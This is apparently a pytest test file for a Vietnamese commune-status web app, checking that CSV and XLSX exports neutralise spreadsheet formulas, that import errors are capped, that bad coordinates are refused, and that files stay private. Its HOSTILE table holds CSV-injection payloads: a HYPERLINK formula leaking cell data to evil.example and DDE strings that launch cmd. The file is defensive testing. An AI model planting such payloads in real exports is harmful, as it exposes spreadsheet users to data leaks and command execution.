"""Careless and hostile input in files: formulas in spreadsheets, huge problem lists, impossible
coordinates, private files, an unreachable database (issue 12, items 3 and 7)."""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import geopandas as gpd
import openpyxl
import pytest
from click.testing import CliRunner
from conftest import THANH_HOA, client_as, csrf_token
from shapely.geometry import box

from geo_app import config
from geo_app.cli import main as cli_main
from geo_app.errors import BoundaryError, ImportFailed
from geo_app.geodata import boundaries, divisions
from geo_app.io import importer
from geo_app.outputs import records
from geo_app.store import Store

GEO_APP = str(Path(sys.executable).parent / "geo-app")

#: What users type that a spreadsheet would run (OWASP's CSV injection examples).
HOSTILE = {
    "16522": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "16417": "+cmd|' /C calc'!A0",
    "15187": "-2+3+cmd|' /C calc'!A0",
    "14845": "@SUM(1+1)*cmd|' /C calc'!A0",
    "14848": "=cmd|' /C notepad'!A1",
}


def _hostile_notes(app) -> None:
    admin = client_as(app, "admin")
    token = csrf_token(admin)
    for code, text in HOSTILE.items():
        unit = admin.get(f"/api/communes/{code}").get_json()
        body = {
            "status": unit["own_status"] if unit["record"] else "hotspot",
            "effective_on": "2026-11-30",
            "note": "notes",
            "version": unit["record"]["version"] if unit["record"] else None,
            "notes": text,
            "unit": text if code == "16522" else "",
        }
        r = admin.post(f"/api/communes/{code}/status", json=body, headers={"X-CSRFToken": token})
        assert r.status_code == 200, r.get_json()


# -- item 3: formulas -----------------------------------------------------------------------------
def test_the_csv_download_prefixes_every_cell_a_spreadsheet_would_run(app):
    _hostile_notes(app)
    client = client_as(app, "admin")
    body = client.get("/download/communes.csv").data.decode("utf-8-sig")
    rows = {r[0]: r for r in csv.reader(io.StringIO(body))}
    notes = rows["code"].index("notes")
    for code, text in HOSTILE.items():
        assert rows[code][notes] == "'" + text
    assert rows["16522"][rows["code"].index("unit")] == "'" + HOSTILE["16522"]
    cells = [c for r in rows.values() for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_csv_download_imports_back_without_the_prefix(app, units):
    _hostile_notes(app)
    client = client_as(app, "admin")
    body = client.get("/download/communes.csv").data
    store = app.extensions["geo_app"].store
    result = importer.run_import(store, body, "round-trip.csv", units, dry_run=True)
    assert result.created == result.updated == 0
    assert result.unchanged == len(store.records("2025"))
    # and a file that lost nothing is read back as typed
    table, close = importer.read_table(body, "x.csv")
    try:
        parsed, _, _ = importer.parse_rows(table, "x.csv", importer.UnitIndex(units), "2025")
    finally:
        close()
    by_code = {p.record.code: p.record for p in parsed}
    assert {c: by_code[c].get("notes") for c in HOSTILE} == HOSTILE


def test_the_xlsx_download_holds_text_never_formulas(app, units):
    _hostile_notes(app)
    client = client_as(app, "admin")
    data = client.get("/download/communes.xlsx").data
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for row in wb.active.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type == "s" for c in cells)
    notes = {row[0].value: row[9].value for row in wb.active.iter_rows(min_row=2)}
    assert {c: notes[c] for c in HOSTILE} == HOSTILE  # as typed, no prefix in a string cell
    store = app.extensions["geo_app"].store
    result = importer.run_import(store, data, "round-trip.xlsx", units, dry_run=True)
    assert result.created == result.updated == 0
    assert result.unchanged == len(store.records("2025"))


def test_the_command_line_export_is_safe_too(tmp_path):
    rows = [["code", "notes"], ["1", "=1+1"], ["2", "-5"], ["3", "plain"], ["4", "\tx"]]
    rows.append(["5", "\rx"])
    records.write_export(rows, tmp_path / "x.csv")
    with (tmp_path / "x.csv").open(encoding="utf-8-sig", newline="") as fh:
        back = list(csv.reader(fh))
    assert [r[1] for r in back] == ["notes", "'=1+1", "'-5", "plain", "'\tx", "'\rx"]
    records.write_export(rows, tmp_path / "x.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "x.xlsx").active
    assert [c.data_type for c in ws["B"]] == ["s"] * 6 and ws["B2"].value == "=1+1"


def test_a_leading_quote_is_kept_unless_it_guards_a_formula():
    assert importer._cell_text("'=1+1") == "=1+1"
    assert importer._cell_text("'-5") == "-5"
    assert importer._cell_text("'quoted'") == "'quoted'"
    assert importer._cell_text("'") == "'"


# -- item 7: problem lists are capped -------------------------------------------------------------
def _bad_file(n: int) -> bytes:
    return ("code,status\n" + "".join(f"99{i:05d},hotspot\n" for i in range(n))).encode()


def test_a_refused_import_lists_the_first_200_problems_and_the_total(sqlite_store, units):
    with pytest.raises(ImportFailed) as info:
        importer.run_import(sqlite_store, _bad_file(5000), "bad.csv", units)
    exc = info.value
    assert len(exc.details) == importer.MAX_PROBLEMS == 200
    assert exc.total == 5000
    assert "5000 problems" in exc.message and "the first 200 are listed" in exc.message
    assert [p["row"] for p in exc.details] == list(range(2, 202))


def test_the_web_answers_a_refused_import_with_a_short_list(client):
    token = csrf_token(client)
    r = client.post(
        "/api/status/import",
        data={"file": (io.BytesIO(_bad_file(20000)), "bad.csv")},
        headers={"X-CSRFToken": token},
    )
    assert r.status_code == 422
    body = r.get_json()
    assert len(body["details"]) == 200 and "20000 problems" in body["error"]
    assert len(r.data) < 60_000
    page = client.post(
        "/import", data={"file": (io.BytesIO(_bad_file(20000)), "bad.csv"), "csrf_token": token}
    )
    assert page.status_code == 422
    assert page.get_data(as_text=True).count("<li>") <= 210


def test_the_command_line_gives_the_total_in_json(tmp_path, monkeypatch, settings):
    monkeypatch.setenv("GEO_APP_DATABASE_URL", settings["DATABASE_URL"])
    monkeypatch.setenv("GEO_APP_BOUNDARIES", str(THANH_HOA))
    bad = tmp_path / "bad.csv"
    bad.write_bytes(_bad_file(300))
    r = CliRunner().invoke(cli_main, ["status", "import", str(bad), "--json"])
    assert r.exit_code == 1
    out = json.loads(r.output)
    assert out["problems_total"] == 300 and len(out["problems"]) == 200


# -- item 7: impossible coordinates ---------------------------------------------------------------
def _layer(tmp_path: Path, geoms, crs="EPSG:4326") -> Path:
    folder = tmp_path / "set"
    folder.mkdir()
    frame = gpd.GeoDataFrame(
        {
            "code": [f"{i:05d}" for i in range(len(geoms))],
            "name": [f"Xã {i}" for i in range(len(geoms))],
        },
        geometry=geoms,
        crs=crs,
    )
    frame.to_file(folder / "units.shp", engine="fiona", encoding="utf-8")
    return folder


def test_metres_declared_as_degrees_are_refused(tmp_path):
    """A VN-2000 layer whose .prj says WGS 84: eastings and northings are not degrees."""
    path = _layer(tmp_path, [box(105.5, 19.5, 105.6, 19.6), box(560000, 2200000, 565000, 2205000)])
    bset = boundaries.read(path)
    (error,) = bset.errors
    assert error.startswith("coordinates are not valid degrees")
    assert "565000" in error and "the units off: 00001" in error
    with pytest.raises(BoundaryError, match="not valid degrees"):
        boundaries.load(path)
    report = divisions.check(path, boundaries.FieldMap(), None)
    assert report["usable"] is False


def test_a_well_placed_set_still_passes(tmp_path):
    bset = boundaries.read(_layer(tmp_path, [box(105.5, 19.5, 105.6, 19.6)]))
    assert bset.errors == []
    assert boundaries.read(THANH_HOA).errors == []


# -- item 7: private files ----------------------------------------------------------------------
def test_a_new_sqlite_file_and_its_folder_are_private(tmp_path):
    path = tmp_path / "instance" / "geo_app.sqlite3"
    store = Store(f"sqlite:///{path}")
    store.upgrade()
    store.dispose()
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_instance_is_made_private_whoever_makes_it_first(tmp_path, monkeypatch):
    monkeypatch.setattr(config, "INSTANCE_DIR", tmp_path / "instance")
    config.make_dir(tmp_path / "instance" / "cache" / "renders")
    assert stat.S_IMODE((tmp_path / "instance").stat().st_mode) == 0o700
    monkeypatch.setattr(config, "INSTANCE_DIR", tmp_path / "instance2")
    config.load({"SECRET_KEY": ""})
    assert stat.S_IMODE((tmp_path / "instance2").stat().st_mode) == 0o700
    assert stat.S_IMODE((tmp_path / "instance2" / "secret_key").stat().st_mode) == 0o600


# -- item 7: an unreachable database ------------------------------------------------------------
def _closed_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture
def unreachable(monkeypatch, tmp_path):
    url = f"postgresql+psycopg://postgres@127.0.0.1:{_closed_port()}/nothing"
    monkeypatch.setenv("GEO_APP_DATABASE_URL", url)
    monkeypatch.setenv("GEO_APP_BOUNDARIES", str(THANH_HOA))
    monkeypatch.setenv("GEO_APP_SECRET_KEY", "x")
    monkeypatch.setenv("GEO_APP_CACHE_DIR", str(tmp_path / "cache"))
    return url


def test_db_upgrade_says_in_a_few_lines_that_the_database_is_unreachable(unreachable):
    r = subprocess.run(
        [GEO_APP, "db", "upgrade"], capture_output=True, text=True, env=dict(os.environ)
    )
    assert r.returncode == 1
    assert "Traceback" not in r.stderr
    lines = r.stderr.strip().splitlines()
    assert len(lines) <= 4, r.stderr  # was a traceback of 138 lines
    assert "error: the status database is unavailable; try again in a moment" in lines
    assert "127.0.0.1" in lines[-1] and "Connection refused" in lines[-1]


@pytest.mark.parametrize(
    "args",
    [
        ["db", "upgrade"],
        ["db", "backup", "--out", "{tmp}/b.json"],
        ["db", "restore", "{tmp}/backup.json", "--yes"],
        ["users", "list"],
        ["users", "add", "lan", "--role", "staff"],
        ["users", "password", "lan"],
        ["users", "disable", "lan"],
        ["users", "end-sessions", "lan"],
        ["users", "first-admin"],
        ["status", "import", "{tmp}/s.csv"],
        ["status", "export", "--out", "{tmp}/e.csv"],
        ["status", "history", "16522"],
        ["status", "repair", "16522", "1", "--note", "x"],
        ["divisions", "list"],
        ["serve", "--port", "1"],
    ],
)
def test_every_command_says_so_without_a_traceback(unreachable, tmp_path, args):
    (tmp_path / "s.csv").write_text("code,status\n16522,hotspot\n")
    (tmp_path / "backup.json").write_text(
        json.dumps({"format": "geo-app-backup/1", "schema_revision": "0005", "tables": {}})
    )
    args = [a.replace("{tmp}", str(tmp_path)) for a in args]
    r = CliRunner().invoke(cli_main, args, input="a long enough password 1\n")
    assert r.exit_code == 1, r.output
    assert isinstance(r.exception, SystemExit), repr(r.exception)
    assert "unavailable" in r.output and "Traceback" not in r.output
    assert len(r.output.strip().splitlines()) <= 3
